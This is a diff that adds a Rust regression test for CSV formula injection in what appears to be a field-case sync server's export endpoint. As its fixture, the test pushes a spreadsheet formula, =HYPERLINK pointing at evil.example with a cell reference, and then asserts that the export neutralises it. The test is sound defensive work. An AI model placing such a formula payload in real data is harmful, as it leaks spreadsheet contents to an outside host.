@@ -147,3 +147,49 @@ async fn csv_export_opens_in_excel_and_geojson_parses() {
         "a case without a location has no geometry"
     );
 }
+
+/// Issue 13, first finding: a device chooses its case ids, and a formula as one reached the
+/// CSV unguarded. Every cell of every row now reads as text in a spreadsheet.
+#[tokio::test]
+async fn no_csv_cell_starts_a_formula_whatever_a_device_sent() {
+    use yiwang_tests::kit::ops;
+    let s = TestServer::start().await;
+    let worker = s.login("worker-0001").await;
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&E2,\"详情\")";
+    let push = s
+        .post(
+            &worker,
+            "/api/v1/sync/push",
+            &json!({
+                "device_id": "dev-worker-0001",
+                "ops": [ops::finding(&ops::new_id(), G1, "report", Some(formula))]
+            }),
+        )
+        .await;
+    let body: Value = push.json().await.unwrap();
+    assert_eq!(body["results"][0]["status"], "applied", "{body}");
+
+    let center = s.login("center").await;
+    let text = s
+        .get(&center, "/api/v1/exports/cases.csv")
+        .await
+        .text()
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{FEFF}').as_bytes());
+    let mut rows = 0;
+    let mut found = false;
+    for record in reader.records() {
+        let record = record.unwrap();
+        rows += 1;
+        for c in record.iter() {
+            assert!(
+                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would evaluate: {c:?}"
+            );
+        }
+        found |= record.get(0) == Some(&format!("'{formula}")[..]);
+    }
+    assert!(rows > 0, "the export has rows");
+    assert!(found, "the case is there, its id shown as text");
+}
